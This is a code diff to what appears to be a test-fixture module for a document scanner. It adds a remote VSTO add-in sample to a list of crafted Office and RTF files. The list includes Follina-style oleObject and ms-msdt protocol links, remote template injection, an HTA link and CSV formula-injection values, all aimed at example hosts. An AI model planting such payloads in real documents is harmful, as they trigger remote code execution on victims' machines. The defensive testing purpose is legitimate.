@@ -49,7 +49,7 @@ def build_word(body: str = "<w:p><w:r><w:t>Offer</w:t></w:r></w:p>", **more: byt
         {
             "word/document.xml": document,
             **{
-                name.replace("__", "/").replace("_bin", ".bin").replace("_xlsx", ".xlsx"): part
+                name.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin").replace("_xlsx", ".xlsx"): part
                 for name, part in more.items()
             },
         }
@@ -177,6 +177,7 @@ def build_equation(native: bytes) -> bytes:
     )
 
 
+ADD_IN = "https://add-ins.example/totals.vsto|b0ffa1ba|vstolocal"
 LINK_TO_PAGE = b"\x01\x00\x00\x02" + bytes(16) + "https://pages.example/x.hta".encode("utf-16-le") + bytes(4)
 HONEST_EQUATION = (
     b"\x1c\x00\x00\x00\x02\x00" + bytes(22) + b"\x03\x01\x01\x03\x0a\x0a\x01\x02\x83a\x00\x02\x86=\x00\x00"
@@ -314,6 +315,9 @@ FILES: Mapping[str, Callable[[], bytes]] = {
     "prices.csv": lambda: b"name,qty\n-12|34,5\n=SUM(A1:A2),7\nanswer!,+49 30 901820\n",
     "remote-template.docx": partial(build_related, "attachedTemplate", "https://templates.example/x.dotm"),
     "remote-template.rtf": lambda: build_rtf_text("{\\*\\template https://templates.example/x.dotm}Offer"),
+    "remote-add-in.docx": lambda: build_word(
+        docProps__custom_xml=f'<p><property name="_AssemblyLocation"><lpwstr>{ADD_IN}</lpwstr></property></p>'
+    ),
     "own-template.docx": partial(build_related, "attachedTemplate", "file:///C:\\Users\\ann\\Templates\\Letter.dotx"),
     "follina.docx": partial(build_related, "oleObject", "https://pages.example/index.html!"),
     "msdt.docx": partial(build_related, "hyperlink", "ms-msdt:/id PCWDiagnostic /skip force"),
